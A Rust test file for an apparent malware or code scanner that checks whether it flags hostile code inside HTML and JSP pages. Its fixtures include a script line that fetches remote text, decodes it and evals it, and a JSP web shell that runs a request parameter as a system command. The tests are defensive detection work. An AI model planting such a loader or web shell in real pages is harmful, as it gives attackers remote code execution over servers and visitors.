//! Pages that are programs, and programs in pages, are looked at like any other code.

mod common;

use common::findings::places;
use common::{inspect, json, write};

#[test]
fn scripts_in_a_page_are_looked_at_where_they_stand() {
    let temporary = tempfile::tempdir().unwrap();
    let drop = temporary.path().join("drop");
    let page = "<html><body>\n<p>a</p>\n<script>\nfetch(u).then(r => r.text()).then(t => eval(atob(t)));\n\
                const keep = '<?= $x ?>';\n</script>\n<script type=\"application/json\">{\"eval\": 1}</script>\n</body></html>\n";
    write(&drop, "page.html", page);
    write(&drop, "shop.phtml", page);
    let out = temporary.path().join("out");
    inspect(&drop, &out, &[]).with(0);
    for path in ["page.html", "shop.phtml"] {
        let lines: Vec<u64> = places(&out)
            .into_iter()
            .filter(|(of, _, rule)| of == path && rule.contains("decoded"))
            .map(|it| it.1)
            .collect();
        assert!(lines.iter().all(|line| *line == 4) && !lines.is_empty(), "{path}: {lines:?}");
    }
    let coverage = json(&out, "coverage.json").to_string();
    assert!(coverage.contains("and its scripts"), "{coverage}");
}

#[test]
fn server_pages_are_programs() {
    let temporary = tempfile::tempdir().unwrap();
    let drop = temporary.path().join("drop");
    let page = "<%@ page import=\"java.util.*\" %>\n<h1>Status</h1>\n<% String c = request.getParameter(\"c\");\n\
                if (c != null) { %>\n<pre><%= Runtime.getRuntime().exec(c) %></pre>\n<% } %>\n";
    write(&drop, "status.jsp", page);
    let out = temporary.path().join("out");
    inspect(&drop, &out, &[]).with(0);
    let found = places(&out);
    assert!(found.iter().any(|(path, line, _)| path == "status.jsp" && *line == 5), "{found:?}");
    let coverage = json(&out, "coverage.json").to_string();
    assert!(!coverage.contains("partial\":1"), "{coverage}");
}
